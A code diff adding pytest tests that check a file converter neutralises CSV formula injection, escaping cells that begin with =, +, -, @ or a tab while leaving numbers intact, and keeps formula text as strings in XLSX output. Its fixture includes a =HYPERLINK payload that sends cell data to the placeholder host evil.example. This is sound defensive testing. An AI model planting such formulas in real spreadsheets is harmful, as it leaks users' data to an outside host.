@@ -109,3 +109,29 @@ def test_bad_json_is_a_clear_error(content: bytes, message: str) -> None:
 def test_corrupt_xlsx() -> None:
     with pytest.raises(ToolError, match="not a readable XLSX"):
         _convert(input_file("x.xlsx", b"PK\x03\x04garbage"), "csv")
+
+
+FORMULAS = (
+    'name,cmd,n\n=HYPERLINK("http://evil.example/?"&A1),+1+1,-5\n'
+    '@SUM(A1:A2),-2+3,3\n"\tTAB",safe,-1.5\n'
+)
+
+
+def test_csv_output_escapes_formula_cells_but_not_numbers() -> None:
+    # Finding (issue #20, low): CSV cells starting with = + - @ were written unescaped.
+    source = input_file(
+        "evil.json", json.dumps(list(csv.DictReader(io.StringIO(FORMULAS)))).encode()
+    )
+    out = _convert(source, "csv")
+    rows = list(csv.reader(io.StringIO(out.content.decode())))
+    assert rows[1] == ['\'=HYPERLINK("http://evil.example/?"&A1)', "'+1+1", "-5"]
+    assert rows[2] == ["'@SUM(A1:A2)", "'-2+3", "3"]
+    assert rows[3] == ["'\tTAB", "safe", "-1.5"]
+
+
+def test_xlsx_output_keeps_formula_text_as_strings() -> None:
+    out = _convert(input_file("evil.csv", FORMULAS.encode()), "xlsx")
+    sheet = load_workbook(io.BytesIO(out.content)).active
+    cell = sheet["A2"]
+    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK(")
+    assert sheet["B3"].data_type == "s" and sheet["B3"].value == "-2+3"
